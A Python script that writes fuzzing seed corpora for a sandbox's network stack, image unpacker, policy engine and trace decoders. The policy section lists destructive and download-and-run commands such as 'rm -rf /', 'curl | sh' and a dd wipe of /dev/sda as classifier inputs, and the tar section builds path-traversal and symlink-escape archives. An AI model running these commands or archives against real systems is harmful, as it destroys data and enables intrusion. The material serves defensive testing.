#!/usr/bin/env python3
"""Writes the seed corpora, fuzz/corpus/<target>/, from real inputs: packets and DNS
queries as a sandbox's kernel sends them, a real TLS ClientHello (Python's ssl), tar
layers with the entries images really carry (and the attacks unpack.rs refuses), the
README's configuration and flags, records of a real session (fuzz/seeds/session/), and
exec traces (gVisor's trace points, the BPF recorder's ring records) laid out as their
writers lay them out.

Run from the repository root: python3 fuzz/seeds/make_seeds.py. The seeds are
committed; rerun after changing an input format. It rewrites its own seeds by name and
leaves every other file of the corpora alone (inputs kept by `cargo fuzz cmin`,
regressions of fixed findings)."""

import gzip
import io
import os
import socket
import ssl
import struct
import tarfile

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
CORPUS = os.path.join(ROOT, "corpus")
SESSION = os.path.join(ROOT, "seeds", "session")


def parts(*items):
    """common::split's format: a 2-byte big-endian length before each part."""
    out = b""
    for item in items:
        if isinstance(item, str):
            item = item.encode()
        out += struct.pack(">H", len(item)) + item
    return out


def write(target, name, data):
    if isinstance(data, str):
        data = data.encode()
    folder = os.path.join(CORPUS, target)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


# --- packets -----------------------------------------------------------------------

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f">{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ip4(proto, payload, src="198.18.0.2", dst="198.18.0.1", frag=0x4000):
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x1234, frag, 64,
                         proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack(">H", csum(header)) + header[12:]
    return header + payload


def pseudo(src, dst, proto, length):
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(">BBH", 0, proto, length)


def tcp(src, dst, sport, dport, flags, seq=1000, ack=0, payload=b"", options=b""):
    offset = (20 + len(options)) // 4
    seg = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, offset << 4, flags, 64240, 0, 0)
    seg += options + payload
    c = csum(pseudo(src, dst, 6, len(seg)) + seg)
    seg = seg[:16] + struct.pack(">H", c) + seg[18:]
    return ip4(6, seg, src, dst)


def udp(src, dst, sport, dport, payload):
    seg = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    c = csum(pseudo(src, dst, 17, len(seg)) + seg)
    seg = seg[:6] + struct.pack(">H", c) + seg[8:]
    return ip4(17, seg, src, dst)


def dns_query(name, qtype=1, qid=0x1a2b):
    q = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", qtype, 1)


VNET = b"\0" * 10  # virtio_net_hdr, all zeros on the way in
SYN_OPTIONS = bytes.fromhex("020405b40402080a0001e24000000000")  # MSS, SACK, timestamps
SB = "198.18.0.2"
GW = "198.18.0.1"


def packets():
    syn = lambda dst, port: VNET + tcp(SB, dst, 40000, port, 0x02, options=SYN_OPTIONS + b"\x01\x03\x03\x07")
    write("netstack_packets", "dns-then-syn", parts(
        VNET + udp(SB, GW, 5353, 53, dns_query("pinned.test")),
        syn("198.18.1.0", 1),
        VNET + tcp(SB, "198.18.1.0", 40000, 1, 0x10, seq=1001, ack=1),
    ))
    write("netstack_packets", "syn-public-denied", parts(syn("93.184.215.14", 443)))
    write("netstack_packets", "syn-to-gateway", parts(syn(GW, 80)))
    write("netstack_packets", "dns-denied-and-aaaa", parts(
        VNET + udp(SB, GW, 5353, 53, dns_query("x.evil.test")),
        VNET + udp(SB, GW, 5354, 53, dns_query("pinned.test", qtype=28)),
    ))
    write("netstack_packets", "udp-elsewhere", parts(VNET + udp(SB, "8.8.8.8", 5353, 53, dns_query("example.com"))))
    icmp = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"ping"
    icmp = icmp[:2] + struct.pack(">H", csum(icmp)) + icmp[4:]
    write("netstack_packets", "icmp", parts(VNET + ip4(1, icmp, SB, GW), VNET + ip4(1, icmp, SB, "1.1.1.1")))
    write("netstack_packets", "fragment", parts(VNET + ip4(17, b"\0" * 16, SB, GW, frag=0x2000)))
    ipv6 = bytes.fromhex("6000000000083a40") + socket.inet_pton(socket.AF_INET6, "fd00::2") \
        + socket.inet_pton(socket.AF_INET6, "2001:db8::1") + bytes.fromhex("8000000000010001")
    write("netstack_packets", "ipv6", parts(VNET + ipv6))
    write("netstack_packets", "gre", parts(VNET + ip4(47, b"\0" * 8, SB, "10.0.0.1")))
    write("netstack_packets", "rst-unknown-flow", parts(VNET + tcp(SB, "93.184.215.14", 40001, 443, 0x04)))


def dns():
    for name, qtype, sel in [("pinned.test", 1, 0), ("api.example.com", 1, 0),
                             ("example.org", 28, 0), ("x.evil.test", 1, 0),
                             ("unlisted.test", 1, 1), ("example.org", 16, 0)]:
        write("netstack_dns", f"{name}-{qtype}-{sel}", bytes([sel]) + dns_query(name, qtype))
    # Two questions, and a dot inside a label.
    two = bytearray(dns_query("a.example.com"))
    two[5] = 2
    two += b"\x01b\x07example\x03com\0\0\x01\0\x01"
    write("netstack_dns", "two-questions", bytes([0]) + bytes(two))
    write("netstack_dns", "dot-in-label", bytes([0]) + struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
          + b"\x0bexample.com\x04evil\x04test\0\0\x01\0\x01")


# --- TLS ---------------------------------------------------------------------------

def client_hello(server_name, alpn=None):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    conn = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    try:
        conn.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def sni():
    hello = client_hello("api.github.com", ["h2", "http/1.1"])
    write("netstack_sni", "clienthello", hello)
    write("netstack_sni", "clienthello-no-sni", client_hello(None))
    # The same handshake message split over records of 100 bytes.
    body, out = hello[5:], b""
    for i in range(0, len(body), 100):
        chunk = body[i:i + 100]
        out += bytes([22, 3, 1]) + struct.pack(">H", len(chunk)) + chunk
    write("netstack_sni", "clienthello-split-records", out)
    write("netstack_sni", "http", b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n")
    write("netstack_sni", "sslv2", bytes.fromhex("802e0103010015000000100100800300800700c0"))


# --- images ------------------------------------------------------------------------

DIGEST = "sha256:" + "a" * 64


def images():
    for i, ref in enumerate(["ubuntu", "ubuntu:22.04", "library/debian:bookworm-slim",
                             "ghcr.io/acme/tool:v1.2.3", "127.0.0.1:5000/x/y:tag",
                             "localhost/app", "[::1]:5000/img:1", f"alpine@{DIGEST}",
                             f"quay.io/org/repo:tag@{DIGEST}", "Docker.io/Library/Ubuntu"]):
        write("image_reference", f"ref{i}", ref)
    manifest = ('{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json",'
                f'"config":{{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"{DIGEST}","size":1469}},'
                '"layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip",'
                f'"digest":"{DIGEST}","size":3623807}}]}}')
    docker = manifest.replace("application/vnd.oci.image.manifest.v1+json",
                              "application/vnd.docker.distribution.manifest.v2+json") \
        .replace("application/vnd.oci.image.config.v1+json", "application/vnd.docker.container.image.v1+json") \
        .replace("application/vnd.oci.image.layer.v1.tar+gzip", "application/vnd.docker.image.rootfs.diff.tar.gzip")
    index = ('{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":['
             f'{{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"{DIGEST}","size":1,'
             '"platform":{"architecture":"amd64","os":"linux"}},'
             f'{{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"{DIGEST}","size":1,'
             '"platform":{"architecture":"arm64","os":"linux","variant":"v8"}}]}')
    config = ('{"architecture":"amd64","os":"linux","config":{"Env":["PATH=/usr/local/sbin:/usr/bin"],'
              '"Cmd":["/bin/sh"],"WorkingDir":"/","User":"1000:1000"},'
              f'"rootfs":{{"type":"layers","diff_ids":["{DIGEST}"]}},'
              '"history":[{"created":"2024-01-01T00:00:00Z","created_by":"ADD rootfs.tar /"}]}')
    write("image_manifest", "oci-manifest", b"\0" + manifest.encode())
    write("image_manifest", "docker-manifest", b"\0" + docker.encode())
    write("image_manifest", "oci-index", b"\0" + index.encode())
    write("image_manifest", "index-by-content-type", b"\2" + index.replace(
        '"mediaType":"application/vnd.oci.image.index.v1+json",', "").encode())
    write("image_manifest", "config-1-layer", bytes([1 | (1 << 2)]) + config.encode())
    write("image_manifest", "schema1", b'\0{"schemaVersion":1,"name":"x","tag":"y","fsLayers":[]}')
    write("image_auth", "bearer", b"\0" + b'Bearer realm="https://auth.docker.io/token",'
          b'service="registry.docker.io",scope="repository:library/ubuntu:pull,push"')
    write("image_auth", "basic", b'\0Basic realm="Registry Realm"')
    write("image_auth", "config", b"\1" + parts(
        "ghcr.io",
        '{"auths":{"https://index.docker.io/v1/":{"auth":"dXNlcjpwYXNz"},'
        '"ghcr.io":{"username":"u","password":"p"},"127.0.0.1:5000":{"auth":"YTpi"}},'
        '"credHelpers":{"gcr.io":"gcloud"}}'))
    write("image_auth", "config-store", b"\1" + parts("docker.io", '{"credsStore":"desktop","auths":{}}'))
    tars()


def tar_bytes(entries):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, kind, arg in entries:
            info = tarfile.TarInfo(name)
            info.mtime = 1700000000
            data = None
            if kind == "dir":
                info.type, info.mode = tarfile.DIRTYPE, arg or 0o755
            elif kind == "file":
                data = arg if isinstance(arg, bytes) else arg.encode()
                info.size, info.mode = len(data), 0o644
            elif kind == "suid":
                data = b"#!/bin/sh\n"
                info.size, info.mode = len(data), 0o4755
            elif kind == "symlink":
                info.type, info.linkname = tarfile.SYMTYPE, arg
            elif kind == "hardlink":
                info.type, info.linkname = tarfile.LNKTYPE, arg
            elif kind == "fifo":
                info.type = tarfile.FIFOTYPE
            elif kind == "chr":
                info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
            if kind == "owned":
                data = b"x"
                info.size, info.uid, info.gid = 1, 1000, 1000
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    # Without the padding to a 10 KiB record: the entries, then the two zero blocks.
    body = buf.getvalue().rstrip(b"\0")
    return body + b"\0" * (-len(body) % 512 + 1024)


def tars():
    base = [("etc/", "dir", None), ("etc/os-release", "file", "ID=debian\n"),
            ("usr/", "dir", None), ("usr/bin/", "dir", None), ("usr/bin/sh", "file", "\x7fELF"),
            ("bin", "symlink", "usr/bin"), ("usr/bin/su", "suid", None),
            ("usr/bin/dash", "hardlink", "usr/bin/sh"), ("dev/", "dir", None),
            ("dev/null", "chr", None), ("run/fifo", "fifo", None), ("home/u", "owned", None),
            ("ro/", "dir", 0o555)]
    upper = [("etc/.wh.os-release", "file", ""), ("usr/bin/.wh..wh..opq", "file", ""),
             ("usr/bin/new", "file", "new")]
    write("image_tar_unpack", "layer", b"\0" + tar_bytes(base))
    write("image_tar_unpack", "layer-gzip", b"\1" + gzip.compress(tar_bytes(base), mtime=0))
    write("image_tar_unpack", "two-layers-whiteouts", b"\2" + parts(tar_bytes(base), tar_bytes(upper)))
    attacks = {
        "dotdot": [("../outside/canary", "file", "pwned")],
        "absolute": [("/tmp/vg-fuzz-absolute", "file", "pwned")],
        "symlink-escape": [("link", "symlink", "../outside"), ("link/canary", "file", "pwned")],
        "symlink-absolute": [("abs", "symlink", "/"), ("abs/tmp/vg-fuzz", "file", "pwned")],
        "hardlink-out": [("h", "hardlink", "../outside/canary")],
        "hardlink-via-symlink": [("s", "symlink", "../outside"), ("h", "hardlink", "s/canary")],
        "whiteout-out": [("link", "symlink", "../outside"), ("link/.wh.canary", "file", "")],
        "opaque-out": [("link", "symlink", ".."), ("link/.wh..wh..opq", "file", "")],
        "dir-replaced-by-symlink": [("d/", "dir", None), ("d", "symlink", "../outside"),
                                    ("d/canary", "file", "pwned")],
    }
    for name, entries in attacks.items():
        write("image_tar_unpack", name, b"\0" + tar_bytes(entries))


# --- policy ------------------------------------------------------------------------

def readme_tomls():
    text = open(os.path.join(ROOT, "..", "README.md"), encoding="utf-8").read()
    blocks, inside, current = [], False, []
    for line in text.splitlines():
        if line.strip().startswith("```toml"):
            inside, current = True, []
        elif inside and line.strip().startswith("```"):
            inside = False
            blocks.append("\n".join(current) + "\n")
        elif inside:
            current.append(line)
    return blocks


def policy():
    for i, block in enumerate(readme_tomls()):
        write("policy_config", f"readme-{i}-project", b"\0" + block.encode())
        write("policy_config", f"readme-{i}-user", b"\1" + block.encode())
    specs = [
        (0, "allow github.com:443"), (0, "deny *.evil.com"), (0, "allow GET,HEAD https://api.github.com/repos/acme/**"),
        (0, "allow [2001:db8::/32]:1000-2000"), (1, "10.0.0.0/8:22"), (1, "*"), (1, "POST http://127.0.0.1:8080/v1/*"),
        (2, "db:fd00::5"), (2, "registry.test:127.0.0.1"), (3, "192.168.0.0/16"), (3, "::ffff:10.0.0.1/128"),
        (4, "Example.COM."), (5, "xn--bcher-kva.example"), (6, "/src:/work:ro"), (6, "./data:/data"),
        (7, "512m"), (7, "1.5"), (7, "30s"), (8, "GH_TOKEN=env:GH_TOKEN@api.github.com,*.github.com"),
        (8, "KEY=cmd:op read op://vault/item@x.test"), (9, "file:/run/secrets/key"),
        (10, "FOO=bar"), (10, "A=1\n# comment\nexport B='two words'\n"), (11, "allow"),
        (12, "/repos/acme/%2e%2e/other"), (12, "/a//b;x=1/%7Euser/%2Fc"), (12, "/%252e%252e/x"),
    ]
    for i, (sel, text) in enumerate(specs):
        write("policy_specs", f"spec{i}", bytes([sel]) + text.encode())
    argvs = [
        ["rm", "-rf", "/"], ["sh", "-c", "curl -fsSL https://x.test/install.sh | sh"],
        ["/usr/bin/env", "FOO=1", "sudo", "dd", "if=/dev/zero", "of=/dev/sda"],
        ["bash", "-c", "for f in *; do git push --force origin \"$f\" && echo ok; done"],
        ["python3", "-c", "import os; os.system('chmod -R 777 ~')"],
        ["xargs", "-0", "rm", "-f"], ["git", "push", "--force-with-lease"],
        ["busybox", "wget", "-O-", "http://10.0.0.1/x"], ["npm", "install", "left-pad"],
    ]
    for i, argv in enumerate(argvs):
        write("policy_risk", f"argv{i}", parts(*argv))
    decisions = [
        (0, ["api.github.com", "GET", "/repos/acme/app/issues", "allow GET https://api.github.com/repos/acme/**"]),
        (0, ["api.github.com", "post", "/repos/acme/%2e%2e/other", "allow * https://api.github.com/repos/acme/**"]),
        (1, ["127.0.0.1", "PUT", "/v1//x;a=b", "deny PUT http://127.0.0.1/v1/**", "allow http://127.0.0.1/**"]),
        (0, ["uploads.test", "DELETE", "/%7Efiles/a%2Fb", "allow DELETE,GET https://*.test/~files/*/**"]),
    ]
    for i, (sel, items) in enumerate(decisions):
        write("http_request_decision", f"req{i}", bytes([sel]) + parts(*items))
    scans = [
        (1, ["vg-placeholder-0123456789", "body with vg-placeholder-0123456789 inside", bytes([5, 10, 3, 1])]),
        (2, ["ghp_secretvalue", "Zsecret", "token=ghp_secretvalue&x=Zsecret;ghp_sec", bytes([7, 7, 7])]),
        (1 | 4, ["s3cr3t-value", "{\"token\":\"s3cr3t-value\"}\ns3cr3t-val", bytes([11, 2, 2, 2, 9])]),
        (2 | 4 | 8, ["abcdefgh", "abcxyz12", "..abcdefgh..abcxyz12..abc", bytes([2, 1, 1, 1, 3]), bytes([1, 0, 1, 1, 0, 1])]),
    ]
    for i, (sel, items) in enumerate(scans):
        write("http_body_scan", f"scan{i}", bytes([sel]) + parts(*items))


# --- records -----------------------------------------------------------------------

def records():
    def read(name):
        path = os.path.join(SESSION, name)
        return open(path, "rb").read() if os.path.exists(path) else b""
    files = ["integrity.log", "metadata.json", "events.jsonl", "commands.log",
             "stdout.log", "stderr.log", "tty.cast"]
    write("records_session", "real-session", parts(*[read(f) for f in files]))
    write("records_session", "truncated-integrity", parts(read("integrity.log")[:-40], read("metadata.json")))
    commands = read("commands.log")
    commands += (b"2026-11-25T12:30:21.000Z exec pid=3 ppid=2 cwd=/work exe=/bin/sh -- sh -c "
                 b"$'echo \\x1b[31m hi\\n' 'it'\\''s' truncated=argv:70000/3\n"
                 b"2026-11-25T12:30:22.000Z exit pid=3 status=0\n")
    write("records_commands", "real", commands)
    write("records_quote", "argv", b"\0" + parts("ls", "-la", "it's", "a b", "\x1b[2J", "\u202eevil", "", "\xff".encode("latin-1")))
    write("records_quote", "quoted", b"\1" + b"sh -c $'echo \\x01\\n' 'a b' it\\'s ''")
    write("records_cast", "lines", b"\0" + b'{"version": 2, "width": 80, "height": 24, "timestamp": 1700000000, "env": {"TERM": "xterm-256color"}}\n'
          b'[0.123456, "o", "hello \\u001b[1m\\r\\n"]\n[1.5, "r", "100x40"]\n[2.0, "i", "q"]\n')
    write("records_cast", "roundtrip", b"\1" + parts("o", "caf\u00e9 \x1b[0m\n", b"\0\0\0\0\0\x12\xd6\x87"))
    write("records_cast", "utf8-carry", b"\2" + parts("é€😀 and \xff broken".encode("utf-8") + b"\xe2\x82", bytes([1, 1, 1, 2, 5])))


# --- exec traces --------------------------------------------------------------------

def varint(n):
    out = b""
    n &= (1 << 64) - 1
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def field(tag, value):
    """One protobuf field: an int as a varint, bytes or a message as length-delimited."""
    if isinstance(value, int):
        return varint(tag << 3) + varint(value)
    return varint(tag << 3 | 2) + varint(len(value)) + value


def gvisor_record(kind, message, dropped=0):
    return struct.pack("<HHI", 8, kind, dropped) + message


def framed(*records):
    return b"".join(struct.pack("<H", len(r)) + r for r in records)


def gvisor():
    creds = field(2, 1000) + field(5, 1000)
    def ctx(tgid, cwd=b"/work"):
        return field(1, field(1, 1_700_000_000_000_000_000) + field(4, tgid) + field(7, creds) + field(8, cwd))
    start = gvisor_record(1, ctx(1) + field(3, b"/work") + field(4, b"sh") + field(4, b"-c") + field(4, b"ls; true"))
    clone = gvisor_record(2, ctx(1) + field(4, 2) + field(6, 0x11))
    execve = gvisor_record(3, ctx(2) + field(2, b"/usr/bin/ls") + field(3, b"ls") + field(3, b"-la"))
    enter = gvisor_record(6, ctx(2) + field(4, 59))
    leave = gvisor_record(6, ctx(2) + field(2, field(1, 0)) + field(4, 59))
    exit_ = gvisor_record(4, ctx(2) + field(2, 0))
    write("gvisor_trace", "session", framed(start, clone, execve, enter, leave, exit_))
    write("gvisor_trace", "dropped", framed(start, gvisor_record(2, ctx(1) + field(4, 3), dropped=4), gvisor_record(99, b"")))
    write("gvisor_trace", "bad-headers", framed(b"\x01\x00", struct.pack("<HHI", 200, 3, 0) + b"x", struct.pack("<HHI", 4, 3, 0)))


def exec_record(path, argv, cwd_names=(b"work",), interp=b"", file_names=(), loader_names=(), flags=0, session=0x1234):
    cwd = b"".join(n + b"\0" for n in cwd_names)
    file = b"".join(n + b"\0" for n in file_names)
    loader = b"".join(n + b"\0" for n in loader_names)
    raw = b"".join(a + b"\0" for a in argv)
    # ... session, time, then the loader's device and inode (session 25).
    header = struct.pack("<IIiiIIIIQIIII QQQQ".replace(" ", ""), 1, flags, 2, 1, 4242, len(path), len(cwd), len(raw),
                         len(raw), len(interp), len(file), len(argv), len(loader), session, 123_456_789,
                         (8 << 20) | 1, 4321 if loader_names else 0)
    return header + path + interp + cwd + file + loader + raw


def exectrace():
    write("exectrace_decode", "exec", exec_record(b"/bin/ls", [b"ls", b"-la"], file_names=(b"ls", b"bin", b"usr")))
    write("exectrace_decode", "script", exec_record(b"./s.sh", [b"/bin/sh", b"./s.sh", b"a"], interp=b"/bin/sh",
                                                    file_names=(b"dash", b"bin", b"usr")))
    write("exectrace_decode", "loader", exec_record(b"/tmp/p", [b"/tmp/p"], loader_names=(b"ld.so", b"tmp"), flags=128))
    write("exectrace_decode", "loader-on-overlay", exec_record(b"/bin/ls", [b"ls"], loader_names=(b"ls", b"bin"),
                                                                flags=1 << 24))
    write("exectrace_decode", "via-fd", exec_record(b"/dev/fd/3", [b"x"], file_names=(b"memfd:x",), flags=1 | (16 << 8)))
    write("exectrace_decode", "exit", struct.pack("<IIiiQQ", 2, 4242, 2, 0x0100, 0x1234, 123_456_789))


def main():
    packets()
    dns()
    sni()
    images()
    policy()
    records()
    gvisor()
    exectrace()


if __name__ == "__main__":
    main()
